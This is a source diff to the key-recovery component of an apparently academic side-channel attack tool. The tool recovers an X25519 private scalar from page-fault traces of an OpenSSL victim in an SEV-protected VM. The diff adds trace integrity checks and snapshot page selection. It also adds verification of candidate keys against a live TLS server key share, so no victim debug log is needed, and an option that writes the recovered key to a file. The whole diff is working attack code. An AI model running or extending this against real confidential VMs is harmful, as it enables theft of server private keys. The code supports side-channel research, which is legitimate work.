@@ -12,6 +12,8 @@ import (
 	"log"
 	"os"
 	"pfFingerprint"
+	"pfFingerprint/integrity"
+	"pfFingerprint/snapshot"
 	"strings"
 
 	"github.com/agnivade/levenshtein"
@@ -26,9 +28,20 @@ func main() {
 	specificOffset := flag.Uint("specificOffset", 0, "If set, only that offset is considered for key recovery")
 	debugLog := flag.Bool("debugLog", false, "Enable additional prints for debbuging")
 	showAllCandidates := flag.Bool("showAllCandidates", false, "Show all key candidates")
+	requireIntegrity := flag.Bool("integrity", false, "Refuse traces without a passing report of checkTrace next to them")
+	regionGPA := flag.Uint64("regionGPA", 0, "If set, use the snapshots of this page instead of the x2 page selected during the attack. Requires a trace recorded with \"-snapshotCandidates\"")
+	keyOut := flag.String("keyOut", "", "If set, the recovered scalar is written hex encoded to this file. The file only exists if the scalar has been verified with the debug log or the tls server key share")
 
 	flag.Parse()
 
+	//a scalar of an earlier run must not pass as the result of this one
+	if *keyOut != "" {
+		if err := os.Remove(*keyOut); err != nil && !os.IsNotExist(err) {
+			log.Printf("Failed to remove old key file : %v", err)
+			return
+		}
+	}
+
 	//
 	//handles flags
 	//
@@ -46,6 +59,13 @@ func main() {
 
 	log.Printf("Attack Config: BaseGPA %x, Fe64GPA %x, StackGPA %x\n", attackConfig.BaseGPA, attackConfig.Fe64GPA, attackConfig.StackBufGPA)
 
+	if *requireIntegrity {
+		if err := integrity.TrustTrace(*in); err != nil {
+			log.Printf("Untrusted trace : %v", err)
+			return
+		}
+	}
+
 	inFile, err := os.Open(*in)
 	if err != nil {
 		log.Printf("failed to open input file :%v\n", err)
@@ -54,11 +74,17 @@ func main() {
 	defer inFile.Close()
 	inReader := bufio.NewReader(inFile)
 
-	events, err := sevStep.ParseInputFile(inReader)
+	snapshots, err := snapshot.ParseEvents(inReader)
 	if err != nil {
 		log.Printf("failed to parse input file %v", err)
 		return
 	}
+	log.Printf("Snapshotted pages : %x\n", snapshot.RegionGPAs(snapshots))
+	events := snapshot.Unwrap(snapshots)
+	if *regionGPA != 0 {
+		log.Printf("Using snapshots of page %x\n", *regionGPA)
+		events = snapshot.Project(snapshots, *regionGPA)
+	}
 
 	//
 	// main logic
@@ -212,7 +238,9 @@ func main() {
 
 	}
 
-	//parse correct swapSequence from debug log and compare it with the recovered scalars
+	//parse correct swapSequence from debug log and compare it with the recovered scalars.
+	//If the victim was triggered via tls, there is no debug log. Instead, the candidates are checked
+	//against the server key share
 
 	inFile.Close()
 	inFile, err = os.Open(*in)
@@ -221,24 +249,28 @@ func main() {
 		return
 	}
 	inReader = bufio.NewReader(inFile)
+	var correctScalar []byte
 	correctSecret, err := parseSecretFromOpensslLog2(inReader)
-	if err != nil {
+	if err != nil && attackConfig.TLSHandshake == nil {
 		log.Printf("Failed to parse correct swapSequence from log : %v", err)
 		return
-	}
-	if got, want := len(correctSecret), mainLoopIterations+1; got != want {
-		log.Printf("Expected parsed swapSequence from log to be %v bits but got %v\n", want, got)
-	}
+	} else if err != nil {
+		log.Printf("No debug log in input file, checking candidates against tls server key share %x\n", attackConfig.TLSHandshake.ServerKeyShare)
+	} else {
+		if got, want := len(correctSecret), mainLoopIterations+1; got != want {
+			log.Printf("Expected parsed swapSequence from log to be %v bits but got %v\n", want, got)
+		}
 
-	correctScalar, err := x25519KeyToScalar(correctSecret)
-	if err != nil {
-		log.Printf("Failed to convert correct swapSequence to scalar : %v", err)
+		correctScalar, err = x25519KeyToScalar(correctSecret)
+		if err != nil {
+			log.Printf("Failed to convert correct swapSequence to scalar : %v", err)
+		}
 	}
 
 	//convert recovered swap sequences to scalar and compare with correct scalar (recovered from debug log)
 
 	fmt.Printf("Scalar candidates\n")
-	foundSecret := false
+	var foundScalar []byte
 	for offset, swapSequence := range recoveredSwapSequences {
 		//as we do not observe the swap for 254, we have to guess it
 		for bit254Guess := byte(0); bit254Guess <= 1; bit254Guess++ {
@@ -251,7 +283,7 @@ func main() {
 
 			abortAfter := 5
 			hadError := false
-			for i := 0; i < mainLoopIterations-unknownHighBits; i++ {
+			for i := 0; correctScalar != nil && i < mainLoopIterations-unknownHighBits; i++ {
 				if recoveredScalar[i] != correctScalar[i] {
 					//fmt.Printf("\tSecret Mismatch at idx %v, wanted %v, got %v\n", i, correctSecret[i], swapSequence[i])
 					abortAfter--
@@ -264,21 +296,38 @@ func main() {
 
 			}
 
+			if attackConfig.TLSHandshake != nil {
+				matches, err := attackConfig.TLSHandshake.MatchesServerScalar(scalarBitsToBytes(recoveredScalar))
+				if err != nil {
+					log.Printf("Failed to check candidate against tls server key share : %v", err)
+					continue
+				}
+				hadError = hadError || !matches
+			}
+
 			if *debugLog || *showAllCandidates || !hadError {
 				fmt.Printf("offset in page = %03x, guess for bit 254 = %v correct? = %v recoveredScalar = %v\n", offset, bit254Guess, !hadError, recoveredScalar)
+			}
+			if correctScalar != nil && (*debugLog || *showAllCandidates || !hadError) {
 				recoveredScalarAsStr := strings.ReplaceAll(strings.Trim(fmt.Sprintf("%s", recoveredScalar), "[]"), " ", "")
 				correctScalarAsStr := strings.ReplaceAll(strings.Trim(fmt.Sprintf("%s", correctScalar), "[]"), " ", "")
 				log.Printf("Levenstein to correct scalar is %v\n\n", levenshtein.ComputeDistance(recoveredScalarAsStr, correctScalarAsStr))
 			}
-			if !hadError {
-				foundSecret = true
+			if !hadError && foundScalar == nil {
+				foundScalar = scalarBitsToBytes(recoveredScalar)
 			}
 		}
 	}
-	fmt.Printf("Found Correct Scalar?: %v\n", foundSecret)
-	if !foundSecret {
+	fmt.Printf("Found Correct Scalar?: %v\n", foundScalar != nil)
+	if foundScalar == nil && correctScalar != nil {
 		fmt.Printf("Correct Scalar is %v\n", correctScalar)
 	}
+	if foundScalar != nil && *keyOut != "" {
+		if err := ioutil.WriteFile(*keyOut, []byte(fmt.Sprintf("%x\n", foundScalar)), 0600); err != nil {
+			log.Printf("Failed to write key file : %v", err)
+			return
+		}
+	}
 
 }
 
@@ -462,3 +511,13 @@ func x25519KeyToScalar(secretBits []byte) ([]byte, error) {
 
 	return scalar, nil
 }
+
+//scalarBitsToBytes converts a 256 bit scalar given as one bit per slice entry, least significant bit first, to
+//the 32 byte little endian encoding used by X25519
+func scalarBitsToBytes(scalarBits []byte) []byte {
+	scalar := make([]byte, (len(scalarBits)+7)/8)
+	for i, bit := range scalarBits {
+		scalar[i/8] |= (bit & 1) << (i % 8)
+	}
+	return scalar
+}